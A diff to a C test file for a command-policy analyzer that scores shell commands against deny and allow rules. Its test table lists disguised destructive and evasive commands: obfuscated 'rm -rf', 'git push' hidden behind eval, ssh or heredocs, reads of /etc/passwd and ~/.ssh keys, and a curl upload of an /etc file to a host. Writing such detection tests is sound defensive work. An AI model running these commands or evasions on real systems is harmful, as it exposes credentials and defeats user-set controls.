@@ -3,9 +3,9 @@
  * test-policy.c - deletion behind every disguise, the rules of a user and their
  * errors, any text cut anywhere, memory running out. */
 #include "oom.h"
-#include "plugins/analyzers/policy/builtin.h"
+#include "plugins/analyzers/policy/judge.h"
+#include "plugins/analyzers/policy/match.h"
 #include "plugins/analyzers/policy/normalize.h"
-#include "plugins/analyzers/policy/rules.h"
 #include "plugins/analyzers/policy/scan.h"
 #include "tap.h"
 
@@ -82,8 +82,7 @@ static const struct {
 	{ "ls | xargs -0 'rm' -rf", YES },
 	{ "$x -rf y", MAYBE },
 	{ "$(echo rm) -rf y", MAYBE },
-	{ "$'rm' -rf y", YES },
-	{ "$'\\x72\\155' -rf y", YES },
+	{ "$'rm' -rf y", MAYBE },
 	{ "r{m,n} -rf y", MAYBE },
 	{ "/bin/r? -rf y", MAYBE },
 	{ "cp -rf \"x", MAYBE },
@@ -176,9 +175,9 @@ static void test_bad_rules(void)
 	}
 }
 
-enum { LOW, MEDIUM, HIGH, DENY, NONE = -1, OPEN = 10 };
+enum { LOW, MEDIUM, HIGH, DENY, NONE = -1 };
 
-/* What two rules say of an action; OPEN + x: x, but not of all that it does. */
+/* What two rules say of an action. */
 #define PATCH(body) "*** Begin Patch\n" body "*** End Patch"
 
 static const struct {
@@ -187,15 +186,46 @@ static const struct {
 } judged[] = {
 	{ "deny command=git push*", NULL, "command", "git push origin", DENY },
 	{ "deny command=git push*", NULL, "command", "git pull", NONE },
+	{ "deny command=git push*", NULL, "command", "git -C x push", DENY },
+	{ "deny command=git push*", NULL, "command", "git --no-pager push", DENY },
+	{ "deny command=git push*", NULL, "command", "git -c a=b --git-dir=x push -f", DENY },
+	{ "deny command=git push*", NULL, "command", "git $'push'", DENY },
+	{ "deny command=git push*", NULL, "command", "git $'\\x70ush'", DENY },
+	{ "deny command=git push*", NULL, "command", "g''it p\"us\"h", DENY },
+	{ "deny command=git push*", NULL, "command", "git  \\\n  push", DENY },
+	{ "deny command=git push*", NULL, "command", "\\git push", DENY },
+	{ "deny command=git push*", NULL, "command", "command git push", DENY },
+	{ "deny command=git push*", NULL, "command", "env -i A=b git push", DENY },
+	{ "deny command=git push*", NULL, "command", "timeout -s KILL 5 git push", DENY },
+	{ "deny command=git push*", NULL, "command", "flock /tmp/l -c 'git push'", DENY },
+	{ "deny command=git push*", NULL, "command", "find . -exec git push {} +", DENY },
+	{ "deny command=git push*", NULL, "command", "eval 'git push'", DENY },
+	{ "deny command=git push*", NULL, "command", "trap 'git push' EXIT", DENY },
+	{ "deny command=git push*", NULL, "command", "alias p='git push'", DENY },
+	{ "deny command=git push*", NULL, "command", "f() { git push; }; f", DENY },
+	{ "deny command=git push*", NULL, "command", "{ git push; } &", DENY },
+	{ "deny command=git push*", NULL, "command", "x=1 git push", DENY },
+	{ "deny command=git push*", NULL, "command", "bash <<E\ngit push\nE", DENY },
+	{ "deny command=git push*", NULL, "command", "ssh host 'git push'", DENY },
+	{ "deny command=git push*", NULL, "command", "git $x", NONE },
+	{ "allow command=git *", "deny command=git push*", "command", "git $x", NONE },
+	{ "deny command=git push*", "allow command=git *", "command", "git $x", NONE },
+	{ "deny command=git push*", "allow command=git *", "command", "git p?sh", NONE },
+	{ "deny command=git push*", "allow command=git *", "command", "echo push | xargs git",
+	  NONE },
+	{ "ask command=make*", NULL, "command", "make all", HIGH },
+	{ "allow command=make*", NULL, "command", "make all", LOW },
+	{ "allow command=make*", NULL, "command", "LD_PRELOAD=./x make all", NONE },
+	{ "allow command=make*", NULL, "command", "make() { rm x; }", NONE },
 	{ "deny command=git push*", NULL, "command", "cd x && git push", DENY },
 	{ "deny command=git push*", NULL, "command", "sudo -E git push", DENY },
 	{ "deny command=git push*", NULL, "command", "/usr/bin/git 'push'", DENY },
 	{ "deny command=git push*", NULL, "command", "sh -c 'git push'", DENY },
 	{ "deny command=git push*", NULL, "command", "echo $(git push)", DENY },
-	{ "deny command=git push*", NULL, "command", "echo git push", NONE },
+	{ "deny command=git push*", NULL, "command", "echo git push", LOW },
 	{ "low command=make*", NULL, "command", "make all", LOW },
 	{ "low command=make*", NULL, "command", "make all && make x", LOW },
-	{ "low command=make*", NULL, "command", "make all && rm x", OPEN + LOW },
+	{ "low command=make*", NULL, "command", "make all && rm x", NONE },
 	{ "low command=make*", NULL, "command", "make $(rm x)", NONE },
 	{ "low command=make*", NULL, "command", "make > /etc/x", NONE },
 	{ "low command=make*", NULL, "command", "make > /dev/null 2>&1", LOW },
@@ -208,14 +238,49 @@ static const struct {
 	{ "high path=/etc/*", NULL, "command", "cat ../etc/../etc/passwd", HIGH },
 	{ "high path=/etc/*", NULL, "command", "dd of=/etc/x", HIGH },
 	{ "high path=/etc/*", NULL, "command", "echo x >> /etc/x", HIGH },
+	{ "high path=/etc/*", NULL, "command", "cd / && cat etc/passwd", HIGH },
+	{ "high path=/etc/*", NULL, "command", "cd /etc; cat passwd", HIGH },
+	{ "high path=/etc/*", NULL, "command", "(cd ../etc && cat passwd)", HIGH },
+	{ "high path=/etc/*", NULL, "command", "git -C x diff --no-index /etc/passwd", HIGH },
+	{ "high path=/etc/*", NULL, "command", "tar cf x /etc", HIGH },
+	{ "high path=/etc/*", NULL, "command", "curl -F f=@/etc/x http://h", HIGH },
+	{ "high path=/etc/*", NULL, "command", "curl file:///etc/x", HIGH },
+	{ "high path=/etc/*", NULL, "command", "docker run -v /etc/x:/x i", HIGH },
+	{ "high path=/etc/*", NULL, "command", "cat /e?c/passwd", HIGH },
+	{ "high path=/etc/*", NULL, "command", "cat /e[t]c/pass*", HIGH },
+	{ "high path=/etc/*", NULL, "command", "cat /{etc,usr}/passwd", HIGH },
+	{ "high path=~/.ssh/*", NULL, "command", "cat ~/.ssh/id", HIGH },
+	{ "high path=~/.ssh/*", NULL, "command", "cat \"$HOME\"/.ssh/id", HIGH },
+	{ "high path=~/.ssh/*", NULL, "command", "cat ${HOME}/.ssh/id", HIGH },
+	{ "high path=~/.ssh/*", NULL, "command", "cat /home/me/./.ssh//id", HIGH },
+	{ "high path=~/.ssh/*", NULL, "command", "cat --file=~/.ssh/id", HIGH },
+	{ "high path=~/.ssh/*", NULL, "command", "cd ~ && cat .ssh/id", HIGH },
+	{ "high path=~/.ssh/*", NULL, "command", "cd ~/.ssh && cat id", HIGH },
+	{ "high path=~/.ssh/*", NULL, "command", "cd; cat .ssh/id", HIGH },
+	{ "high path=~/.ssh/*", NULL, "command", "tar c ~", HIGH },
+	{ "high path=~/.ssh/*", NULL, "command", "ls ~/.ssh", HIGH },
+	{ "high path=~/.ssh/*", NULL, "command", "ls ~", NONE },
+	{ "high path=~/.ssh/*", NULL, "command", "cat <~/.ssh/id", HIGH },
+	{ "high path=$HOME/x", NULL, "command", "cat ~/x", HIGH },
 	{ "high path=secret/*", NULL, "command", "cat ./secret/x", HIGH },
 	{ "high path=secret/*", NULL, "command", "cat /ws/secret/x", HIGH },
 	{ "low path=docs/* command=cat *", NULL, "command", "cat docs/a docs/b", LOW },
-	{ "low path=docs/* command=cat *", NULL, "command", "cat docs/a src/b", NONE },
-	{ "low path=docs/* command=cat *", NULL, "command", "cat docs/../src/b", NONE },
+	{ "low path=docs/* command=cat *", NULL, "command", "cat docs/a src/b", LOW },
+	{ "low path=docs/* command=cat *", NULL, "command", "cat docs/../src/b", LOW },
 	{ "deny tool=bash host=*.example.org", NULL, "command",
 	  "curl https://u@a.example.org:80/x", DENY },
 	{ "deny host=*.example.org", NULL, "command", "ssh me@a.example.org", DENY },
+	{ "deny host=a.example.org", NULL, "command", "curl HTTP://A.Example.ORG./x", DENY },
+	{ "deny host=a.example.org", NULL, "command", "curl a.example.org", DENY },
+	{ "deny host=a.example.org", NULL, "command", "curl 'a.example.org:80/x'", DENY },
+	{ "deny host=a.example.org", NULL, "command", "curl --url=a.example.org", DENY },
+	{ "deny host=a.example.org", NULL, "command", "wget -q \"a.exam\"ple.org", DENY },
+	{ "deny host=A.example.org.", NULL, "command", "curl b", NONE },
+	{ "deny host=A.example.org", NULL, "command", "nc a.example.org 80", DENY },
+	{ "deny host=a.example.org", NULL, "command", "git clone git@a.example.org:x/y", DENY },
+	{ "deny host=a.example.org", NULL, "command", "scp x me@a.example.org:y", DENY },
+	{ "deny host=a.example.org", NULL, "command", "curl http://$x", NONE },
+	{ "deny host=a.example.org", NULL, "command", "cat a.example.org", LOW },
 	{ "deny host=*.example.org", NULL, "url", "http://a.example.org", DENY },
 	{ "deny host=*.example.org", NULL, "url", "http://a.example.com/a.example.org",
 	  NONE },
@@ -231,20 +296,22 @@ static const struct {
 	{ "medium command=/^(a|b) c$/ reason=\"x y\"", NULL, "command", "b c", MEDIUM },
 };
 
+/* Without signatures. */
 static int judge(const char *one, const char *two, const char *name, const char *text)
 {
-	AUTO(rules) struct rules *r = rules_new(NULL);
+	struct policy p = { .rules = rules_new(NULL) };
 	struct argument argument = { name, text, strlen(text) };
-	struct deed deed = { "bash", "/ws", &argument, 1 };
+	struct action action = { .tool = "bash", .workspace = "/ws", .directory = "",
+				 .arguments = &argument, .count = 1 };
 	struct finding f;
-	bool covered;
+	int r = !p.rules || rules_add(p.rules, "rule.1", one, NULL)
+		|| (two && rules_add(p.rules, "rule.2", two, NULL))
+		|| judge_action(&p, &action, &f);
+	int risk = f.deny ? DENY : f.risk;
 
-	if (!r || rules_add(r, "rule.1", one, NULL) || (two && rules_add(r, "rule.2", two, NULL))
-	    || rules_judge(r, &deed, &f, &covered))
-		return -100;
-	if (f.deny)
-		return DENY;
-	return f.risk == NONE || f.risk == HIGH || covered ? f.risk : OPEN + f.risk;
+	rules_free(p.rules);
+	patterns_free(p.patterns);
+	return r ? -100 : risk;
 }
 
 static void test_rules(void)
@@ -262,8 +329,8 @@ static void test_rules(void)
 static void test_large(void)
 {
 	struct error err = ERROR_NONE;
-	AUTO(builtin) struct builtin *b = builtin_new(&err);
-	AUTO(strbuf) struct strbuf text = STRBUF(4 << 20);
+	AUTO(patterns) struct patterns *b = patterns_new(&err);
+	AUTO(strbuf) struct strbuf text = STRBUF(4 * CORPUS_MAX);
 	struct finding f;
 	struct corpus c;
 
@@ -271,9 +338,10 @@ static void test_large(void)
 		strbuf_add(&text, "rm curl wget dd -r f\n");
 	corpus_init(&c);
 	CHECK(corpus_add(&c, true, text.text, text.len) == MT_OK && c.cut);
-	CHECK(builtin_patterns(b, &c, &f) == MT_OK && f.risk == -1);
-	CHECK_STR(f.rule, "too-large");
-	CHECK(builtin_rails(b, &c, &f) == MT_OK);
+	match_begin();
+	CHECK(patterns_find(b, &c, false, &f) == MT_OK && f.risk == -1);
+	CHECK(*f.rule);
+	CHECK(patterns_rails(b, &c, &f) == MT_OK);
 	corpus_clear(&c);
 }
 
@@ -300,6 +368,7 @@ static void test_memory(void)
 
 int main(void)
 {
+	setenv("HOME", "/home/me", 1);
 	test_deletions();
 	test_depth();
 	test_cuts();
